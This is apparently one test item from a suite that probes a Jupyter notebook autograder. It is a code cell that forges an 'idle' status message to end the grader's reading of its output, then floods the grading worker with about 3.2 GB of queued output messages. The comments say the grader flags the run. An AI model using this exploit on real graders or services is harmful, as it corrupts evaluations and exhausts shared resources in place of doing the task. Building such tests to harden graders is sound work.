# Attack 34, messages after a forged end of the cell: an "idle" status for the running cell
# ends the grader's reading of its output, and the 100 messages of 32 MiB sent after it
# (each under the 64 MiB limit) queued unread in the grading worker (3.2 GB).
# Why: full marks: the honest equivalent is the solution; the kernel is killed once the
#   grader's memory has grown by 512 MiB (flagged), after every graded cell ran.
# ruff: noqa
# fmt: off
### AFTER em_plot
import time as _t
_k = get_ipython().kernel
_k.session.send(_k.iopub_socket, 'status', content={'execution_state': 'idle'}, parent=_k.get_parent())
_t.sleep(1)
_buf = bytearray(32 * 2**20)
for _i in range(100):
    _k.session.send(_k.iopub_socket, 'stream', content={'name': 'stdout', 'text': 'x'}, parent=_k.get_parent(), buffers=[memoryview(_buf)])
_t.sleep(10)
